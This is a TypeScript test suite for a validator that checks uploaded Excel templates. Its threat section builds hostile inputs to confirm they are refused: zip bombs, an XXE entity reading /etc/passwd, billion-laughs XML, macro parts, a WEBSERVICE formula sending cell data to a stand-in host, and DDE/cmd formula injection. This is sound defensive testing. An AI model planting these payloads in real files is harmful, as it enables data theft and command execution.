import { zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { shapeOf } from './fill.fixture.ts'
import { openTemplate, templateCellsOf, waysOf } from './open-template.ts'
import { problemOf, TemplateError, type TemplateProblem } from './problems.ts'
import { inspectTemplate } from './template.ts'
import { type FixtureWorkbook, makeWorkbook, partsOf, relationships } from './workbook.fixture.ts'

const placeholder = { A1: '{{x}}' }
/** In the thread of the tests: starting one for each takes longer than all the rest. */
function findProblems(workbook: Buffer): readonly TemplateProblem[] {
  try {
    const opened = openTemplate(workbook)
    return [...opened.problems, ...waysOf(opened, templateCellsOf(opened).map(shapeOf)).problems]
  } catch (error) {
    if (error instanceof TemplateError) return [error.problem]
    throw error
  }
}
const problemsOf = async (workbook: Buffer) =>
  findProblems(workbook).map(({ code, sheet, cell }) =>
    [code.slice('workbook.'.length), sheet, cell].join(' ').trim(),
  )
const problemsWith = (workbook: FixtureWorkbook) =>
  problemsOf(makeWorkbook({ cells: placeholder, ...workbook }))
const original = partsOf(makeWorkbook({ cells: placeholder }))
const textOf = (part: string) => String(original[part])
const zipped = (parts: Record<string, Uint8Array>) => Buffer.from(zipSync(parts))

describe('a file that is no workbook', () => {
  it('is taken when it is one', async () => expect(await problemsWith({})).toEqual([]))

  it.each([
    ['nothing', Buffer.alloc(0)],
    ['text', Buffer.from('name;value\r\n'.repeat(100))],
    ['another archive', zipped({ 'readme.txt': Buffer.from('x') })],
    [
      'a workbook from before 2007',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    ],
  ])('is refused: %s', async (_, file) => expect(await problemsOf(file)).toEqual(['notWorkbook']))

  it('is refused: a document of another kind, a binary workbook, a template of Excel', async () => {
    for (const type of [
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      'application/vnd.ms-excel.sheet.binary.macroEnabled.main',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml',
    ]) {
      const types = textOf('[Content_Types].xml').replace(/application\/[\w.-]+\.sheet\.main\+xml/, type)
      const [found] = await problemsWith({ parts: { '[Content_Types].xml': types } })
      expect([type, found]).toEqual([type, type.includes('macroEnabled') ? 'macros' : 'notWorkbook'])
    }
  })

  it('is refused: more than 20 MB', async () =>
    expect(await problemsOf(Buffer.alloc(20_000_001))).toEqual(['tooLarge']))

  it('is refused: with a password', async () => {
    const file = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(1016),
      Buffer.from('EncryptedPackage', 'utf16le'),
      Buffer.alloc(1000),
    ])
    expect(await problemsOf(file)).toEqual(['encrypted'])
    const entry = makeWorkbook({ cells: placeholder })
    const directory = entry.indexOf(Buffer.from('504b0102', 'hex'))
    entry.writeUInt16LE(entry.readUInt16LE(directory + 8) | 1, directory + 8)
    expect(await problemsOf(entry)).toEqual(['encrypted'])
  })
})

describe('a damaged workbook', () => {
  it.each([
    ['cells that are not closed', '<sheetData><row r="1"><c r="A1"></row></sheetData>'],
    ['an entity of its own', '<sheetData><row r="1"><c r="A1" t="str"><v>&own;</v></c></row></sheetData>'],
    ['rows out of order', '<sheetData><row r="2"/><row r="1"/></sheetData>'],
    ['cells out of order', '<sheetData><row r="1"><c r="B1"/><c r="A1"/></row></sheetData>'],
    ['a cell of another row', '<sheetData><row r="1"><c r="A2"/></row></sheetData>'],
    ['a control character', '<sheetData><row r="1"><c r="A1" t="str"><v>\u0001</v></c></row></sheetData>'],
  ])('is refused: %s', async (_, sheetData) => expect(await problemsWith({ sheetData })).toEqual(['damaged']))

  it.each([
    ['a part that is never changed', { 'xl/theme/theme1.xml': '<theme>' }],
    ['no sheet where the workbook says', { 'xl/worksheets/sheet1.xml': null }],
    ['bytes that are not UTF-8', { 'docProps/app.xml': Buffer.from([60, 97, 62, 0xff, 60, 47, 97, 62]) }],
  ])('is refused: %s', async (_, parts) => expect(await problemsWith({ parts })).toEqual(['damaged']))

  it('is refused: a file that was cut off, or whose bytes are others', async () => {
    const workbook = makeWorkbook({ cells: placeholder })
    expect(await problemsOf(workbook.subarray(0, workbook.length - 200))).toEqual(['notWorkbook'])
    const flipped = Buffer.from(workbook)
    flipped[60] = (flipped[60] ?? 0) ^ 0xff
    expect(await problemsOf(flipped)).toEqual(['damaged'])
  })
})

describe('threats 25 and 32: a workbook that does more than hold cells', () => {
  it('is refused: a zip bomb, of one entry or many, however small it says to be', async () => {
    const zeros = Buffer.alloc(160_000_000)
    const one = zipped({ ...original, 'xl/media/image1.png': zeros })
    expect(one.length).toBeLessThan(1_000_000)
    expect(await problemsOf(one)).toEqual(['unpackedTooLarge'])
    const directory = one.lastIndexOf(Buffer.from('xl/media/image1.png')) - 46
    one.writeUInt32LE(10, directory + 24)
    expect(await problemsOf(one)).toEqual(['unpackedTooLarge'])
    expect(
      await problemsOf(zipped({ ...original, 'xl/media/a.bin': zeros.subarray(0, 20_000_000) })),
    ).toEqual(['unpackedTooLarge'])
    const many = Object.fromEntries(Array.from({ length: 5001 }, (_, at) => [`x/${at}`, new Uint8Array(0)]))
    expect(await problemsOf(zipped({ ...original, ...many }))).toEqual(['unpackedTooLarge'])
  }, 60_000)

  it('is refused: entries that share their bytes', async () => {
    const file = zipped({ ...original, 'a.bin': Buffer.alloc(100, 1), 'b.bin': Buffer.alloc(100, 1) })
    const [a, b] = ['a.bin', 'b.bin'].map((name) => file.lastIndexOf(Buffer.from(name)) - 46)
    file.writeUInt32LE(file.readUInt32LE((a ?? 0) + 42), (b ?? 0) + 42)
    expect(await problemsOf(file)).toEqual(['damaged'])
  })

  it.each([
    ['a document type', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'],
    ['a billion laughs', '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'],
  ])('is refused: %s', async (_, xml) => {
    for (const part of ['xl/theme/theme1.xml', 'xl/sharedStrings.xml', 'xl/drawings/vmlDrawing1.vml'])
      expect([part, await problemsWith({ parts: { [part]: xml } })]).toEqual([part, ['dtd']])
    const utf16 = Buffer.from(`\ufeff${xml}`, 'utf16le')
    expect(await problemsWith({ parts: { 'xl/theme/theme1.xml': utf16 } })).toEqual(['dtd'])
  })

  it.each([
    'xl/vbaProject.bin',
    'xl/activeX/activeX1.bin',
    'xl/embeddings/oleObject1.bin',
    'xl/macrosheets/sheet1.xml',
  ])('is refused: %s', async (part) =>
    expect(await problemsWith({ parts: { [part]: Buffer.from('x') } })).toEqual(['macros']),
  )

  it('is refused: macros by their type, their relationship, or a name that calls one', async () => {
    const types = textOf('[Content_Types].xml')
    const macro = types.replace(
      'openxmlformats-officedocument.spreadsheetml.sheet.main',
      'ms-excel.sheet.macroEnabled.main',
    )
    expect(await problemsWith({ parts: { '[Content_Types].xml': macro } })).toEqual(['macros'])
    const related = relationships([['vbaProject', 'x.bin']])
    expect(await problemsWith({ parts: { 'xl/worksheets/_rels/sheet1.xml.rels': related } })).toEqual([
      'macros',
    ])
    const named = textOf('xl/workbook.xml').replace(
      '</sheets>',
      '</sheets><definedNames><definedName name="x" function="1" xlm="1">Sheet1!$A$1</definedName></definedNames>',
    )
    expect(await problemsWith({ parts: { 'xl/workbook.xml': named } })).toEqual(['macros'])
  })

  it.each([
    ['an external workbook', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }],
    ['a connection', { 'xl/connections.xml': '<connections/>' }],
    ['a linked picture', { 'xl/drawings/_rels/drawing1.xml.rels': external('image') }],
  ])('is refused: %s', async (_, parts) => expect(await problemsWith({ parts })).toEqual(['externalLink']))

  it('keeps links that people follow', async () =>
    expect(
      await problemsWith({ parts: { 'xl/worksheets/_rels/sheet1.xml.rels': external('hyperlink') } }),
    ).toEqual([]))

  it.each([
    '=WEBSERVICE("http://example.com/"&A1)',
    '=_xlfn.IMAGE("http://example.com/x.png")',
    '=rtd("prog",,"x")',
    '=DDE("soffice","x","y")',
    "=cmd|'/c calc'!A1",
  ])('is refused: the formula %s', async (formula) =>
    expect(await problemsWith({ cells: { ...placeholder, C3: formula } })).toEqual([
      'externalLink Sheet1 C3',
    ]),
  )

  it.each(['=SUM(A1:A3)', '="a|b"&A1', "='x|y'!A1", '="WEBSERVICE(1)"', '=MYCALL(1)'])(
    'keeps the formula %s',
    async (formula) => expect(await problemsWith({ cells: { ...placeholder, C3: formula } })).toEqual([]),
  )

  it('is refused: a conditional format or a validation that asks elsewhere', async () => {
    const afterData =
      '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://x")=1</formula></cfRule></conditionalFormatting>'
    expect(await problemsWith({ afterData })).toEqual(['externalLink'])
  })
})

function external(type: string): string {
  return relationships(
    [],
    `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://example.com/" TargetMode="External"/>`,
  )
}

describe('placeholders', () => {
  it('are needed, 500 at most', async () => {
    expect(await problemsOf(makeWorkbook({ cells: { A1: 'Report', A2: '{x} }{' } }))).toEqual([
      'noPlaceholder',
    ])
    const cells = Object.fromEntries(Array.from({ length: 251 }, (_, at) => [`A${at + 1}`, '{{x}} {{y}}']))
    expect(await problemsOf(makeWorkbook({ cells }))).toEqual(['tooManyPlaceholders'])
  })

  it.each(['{{x', 'x}}', '{{x}} {{y', '}} {{x}}', '{{x {{y}}'])('are written whole: %s', async (text) =>
    expect(await problemsWith({ cells: { B2: text } })).toEqual(['unclosed Sheet1 B2']),
  )

  it('are not in formulas', async () =>
    expect(await problemsWith({ cells: { ...placeholder, B2: '="{{x}}"' } })).toEqual(['formula Sheet1 B2']))

  it('are not in headers, charts or text boxes; comments and copies in charts are no places of theirs', async () => {
    const header = '<headerFooter><oddHeader>&amp;C{{x}}</oddHeader></headerFooter>'
    expect(await problemsWith({ afterData: header })).toEqual(['outsideCells Sheet1'])
    for (const part of ['xl/charts/chart1.xml', 'xl/drawings/drawing1.xml'])
      expect(await problemsWith({ parts: { [part]: '<c><t>{{report.name}}</t></c>' } })).toEqual([
        'outsideCells',
      ])
    expect(await problemsWith({ parts: { 'xl/charts/chart1.xml': '<c><v>{{x}}</v></c>' } })).toEqual([])
    expect(await problemsWith({ parts: { 'xl/comments1.xml': '<c><t>{{x}} goes here</t></c>' } })).toEqual([])
  })

  it('are what they are said to be, or the cell is named', async () => {
    const workbook = makeWorkbook({ cells: { B7: '{{nothing}}' } })
    const { problems } = await inspectTemplate(workbook, ({ sheet, cell, placeholders: [text = ''] }) =>
      problemOf('unknownPlaceholder', { text }, { sheet, cell }),
    )
    expect(problems).toEqual([
      { code: 'workbook.unknownPlaceholder', sheet: 'Sheet1', cell: 'B7', params: { text: '{{nothing}}' } },
    ])
  })

  const merged = (...ranges: string[]) =>
    `<mergeCells count="${ranges.length}">${ranges.map((ref) => `<mergeCell ref="${ref}"/>`).join('')}</mergeCells>`

  it('that fill downward are in no merged cells and have none in their way', async () => {
    const cells = { B2: '{{down}}' }
    for (const range of ['B2:C2', 'B2:B3', 'A9:B9', 'A100:D100'])
      expect([range, await problemsWith({ cells, afterData: merged(range) })]).toEqual([
        range,
        ['merged Sheet1 B2'],
      ])
    expect(await problemsWith({ cells, afterData: merged('A1:D1', 'C3:D3') })).toEqual([])
    const table = { B2: '{{table 3}}' }
    expect(await problemsWith({ cells: table, afterData: merged('D9:E9') })).toEqual(['merged Sheet1 B2'])
    expect(await problemsWith({ cells: { B2: '{{x}}' }, afterData: merged('B2:C2') })).toEqual([])
  })

  it('are in no cell that merged ones hide', async () => {
    const afterData = merged('A4:B5', 'D4:E4')
    const cells = { B4: '{{x}}', A5: 'Of {{x}}' }
    expect(await problemsWith({ cells, afterData })).toEqual(['mergedAway Sheet1 B4', 'mergedAway Sheet1 A5'])
    const [problem] = findProblems(makeWorkbook({ cells, afterData }))
    expect(problem?.params).toEqual({ range: 'A4:B5', first: 'A4' })
    expect(await problemsWith({ cells: { A4: '{{x}}', D4: 'Of {{x}}', C4: '{{x}}' }, afterData })).toEqual([])
  })

  it('that fill to the right have nothing beside them', async () => {
    for (const D2 of ['=1', '{{x}}'])
      expect(await problemsWith({ cells: { B2: '{{table 3}}', D2 } })).toEqual(['inWay Sheet1 B2'])
    expect(await problemsWith({ cells: { B2: '{{table 3}}', E2: '=1', D2: 'old' } })).toEqual([])
    expect(await problemsWith({ cells: { XFC1: '{{table 3}}' } })).toEqual(['inWay Sheet1 XFC1'])
  })

  it('are not in the heading of an Excel table', async () => {
    const parts = {
      'xl/worksheets/_rels/sheet1.xml.rels': relationships([['table', '../tables/table1.xml']]),
      'xl/tables/table1.xml': '<table ref="A1:B9" totalsRowCount="1"/>',
    }
    expect(await problemsWith({ parts })).toEqual(['tableHeading Sheet1 A1'])
    expect(await problemsWith({ parts, cells: { B9: '{{x}}' } })).toEqual(['tableHeading Sheet1 B9'])
    expect(await problemsWith({ parts, cells: { A2: '{{down}}' } })).toEqual([])
  })
})
